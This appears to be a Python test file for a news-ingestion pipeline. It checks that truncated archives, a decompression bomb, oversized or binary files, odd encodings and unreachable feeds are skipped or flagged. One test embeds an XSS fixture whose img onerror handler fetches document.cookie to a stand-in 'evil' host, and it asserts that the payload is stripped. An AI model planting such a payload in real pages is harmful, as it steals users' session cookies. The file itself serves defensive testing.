"""Hostile and broken input: each yields a Skipped or a warning naming the input, and the
rest of the batch continues. Fixtures are generated here, never committed."""

from __future__ import annotations

import gzip
import io
import zlib
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from sitroom.ingest import Skipped, SourceOptions, iter_documents
from sitroom.records import Document

GOOD = "Militia fighters seized the border crossing on Monday, a local council said in a statement.\n"


def _run(paths: list[Path], **kw: object) -> list[Document | Skipped]:
    return list(iter_documents([str(p) for p in paths], SourceOptions(**kw)))  # type: ignore[arg-type]


def _skip_for(items: list[Document | Skipped], path: Path) -> Skipped:
    hits = [s for s in items if isinstance(s, Skipped) and str(path) in s.origin]
    assert hits, f"no Skipped for {path}"
    assert "\n" not in hits[0].reason
    return hits[0]


def _good(tmp_path: Path) -> Path:
    p = tmp_path / "zz-good.txt"
    p.write_text(GOOD)
    return p


def _warc_record(writer: WARCWriter, url: str, body: bytes) -> None:
    headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
    writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers))


def test_truncated_gzip_warc_keeps_earlier_records(tmp_path: Path) -> None:
    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=True)
    page = f"<html><body><article><p>{GOOD * 5}</p></article></body></html>".encode()
    _warc_record(writer, "http://a.example/1", page)
    _warc_record(writer, "http://a.example/2", page * 50)
    path = tmp_path / "cut.warc.gz"
    data = buf.getvalue()
    path.write_bytes(data[: len(data) - 300])
    good = _good(tmp_path)
    items = _run([path, good])
    docs = [d for d in items if isinstance(d, Document)]
    assert any(d.url == "http://a.example/1" for d in docs)
    assert "truncated" in _skip_for(items, path).reason
    assert docs[-1].origin == str(good)


def test_truncated_plain_gzip(tmp_path: Path) -> None:
    path = tmp_path / "page.html.gz"
    data = gzip.compress(b"<html><body><p>" + GOOD.encode() * 200 + b"</p></body></html>")
    path.write_bytes(data[: len(data) // 2])
    items = _run([path, _good(tmp_path)])
    assert "gzip" in _skip_for(items, path).reason
    assert isinstance(items[-1], Document)


def test_decompression_bomb_in_warc(tmp_path: Path) -> None:
    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=True)
    _warc_record(writer, "http://bomb.example/", b"<html><body>" + b"0" * 30_000_000)
    _warc_record(writer, "http://ok.example/", f"<html><body><article><p>{GOOD * 5}</p></article></body></html>".encode())
    path = tmp_path / "bomb.warc.gz"
    path.write_bytes(buf.getvalue())
    assert path.stat().st_size < 200_000  # the fixture stays small; it expands 150x
    items = _run([path], max_bytes=5_000_000)
    assert "too large" in _skip_for(items, path).reason
    assert any(isinstance(d, Document) and d.url == "http://ok.example/" for d in items)


def test_huge_page_skipped(tmp_path: Path) -> None:
    path = tmp_path / "huge.html"
    with path.open("wb") as fh:
        fh.write(b"<html><body>")
        chunk = b"<p>" + b"word " * 2000 + b"</p>"
        while fh.tell() < 20_500_000:
            fh.write(chunk)
    items = _run([path, _good(tmp_path)])
    assert _skip_for(items, path).reason.startswith("too large")
    assert isinstance(items[-1], Document)


def test_binary_junk_named_html(tmp_path: Path) -> None:
    path = tmp_path / "junk.html"
    path.write_bytes(bytes(range(256)) * 40 + zlib.compress(b"x" * 1000))
    items = _run([path, _good(tmp_path)])
    assert _skip_for(items, path).reason == "binary content"
    assert isinstance(items[-1], Document)


def test_empty_files(tmp_path: Path) -> None:
    empty, blank = tmp_path / "empty.txt", tmp_path / "blank.html"
    empty.write_bytes(b"")
    blank.write_text("   \n\n ")
    items = _run([empty, blank, _good(tmp_path)])
    assert _skip_for(items, empty).reason == "empty"
    assert _skip_for(items, blank).reason == "empty"


def test_utf16_text(tmp_path: Path) -> None:
    path = tmp_path / "u16.txt"
    path.write_bytes(GOOD.encode("utf-16"))
    docs = [d for d in _run([path]) if isinstance(d, Document)]
    assert docs[0].text.strip() == GOOD.strip()


def test_windows_1256_arabic(tmp_path: Path) -> None:
    arabic = "قصفت الطائرات الحربية مواقع المعارضة في ريف حلب الشمالي صباح اليوم، وفق ما أفاد ناشطون محليون.\n"
    path = tmp_path / "ar.txt"
    path.write_bytes(arabic.encode("windows-1256"))
    docs = [d for d in _run([path]) if isinstance(d, Document)]
    assert docs[0].text.strip() == arabic.strip()
    assert docs[0].language == "ar"
    assert docs[0].warnings  # not UTF-8: said so


def test_script_payloads_never_reach_text(tmp_path: Path) -> None:
    path = tmp_path / "xss.html"
    path.write_text(
        "<html><head><script>document.cookie='STEAL'</script></head><body><article>"
        f"<p>{GOOD * 3}</p><img src=x onerror=\"fetch('//evil/'+document.cookie)\">"
        "<script>alert('PWNED')</script><svg onload=alert(2)></svg>"
        f"<p>{GOOD * 2}</p></article></body></html>"
    )
    docs = [d for d in _run([path]) if isinstance(d, Document)]
    assert "Militia fighters" in docs[0].text
    for bad in ("STEAL", "PWNED", "onerror", "alert", "document.cookie", "<script"):
        assert bad not in docs[0].text


def test_feed_with_unreachable_host(tmp_path: Path) -> None:
    path = tmp_path / "feed.rss"
    path.write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
        "<item><title>gone</title><link>http://127.0.0.1:9/gone</link><guid>g1</guid></item>"
        "<item><title>teaser</title><link>http://127.0.0.1:9/t</link><description>Brief teaser</description></item>"
        "</channel></rss>"
    )
    items = _run([path, _good(tmp_path)], timeout=3.0)
    skip = _skip_for(items, path)
    assert "127.0.0.1:9" in skip.reason
    teaser = [d for d in items if isinstance(d, Document) and d.title == "teaser"]
    assert teaser and any("127.0.0.1:9" in w for w in teaser[0].warnings)
    assert isinstance(items[-1], Document)


def test_missing_path_and_unreachable_url(tmp_path: Path) -> None:
    missing = tmp_path / "nope.txt"
    items = list(iter_documents([str(missing), "http://127.0.0.1:9/", str(_good(tmp_path))],
                                SourceOptions(timeout=3.0)))
    assert isinstance(items[0], Skipped) and "no such file" in items[0].reason
    assert isinstance(items[1], Skipped) and items[1].origin == "http://127.0.0.1:9/"
    assert isinstance(items[2], Document)


def test_mojibake_repaired_with_warning(tmp_path: Path) -> None:
    path = tmp_path / "moji.txt"
    path.write_text("The cafÃ© near the front was shelled â€” residents fled north.\n", encoding="utf-8")
    docs = [d for d in _run([path]) if isinstance(d, Document)]
    assert docs[0].text == "The café near the front was shelled — residents fled north."
    assert any("mojibake" in w for w in docs[0].warnings)
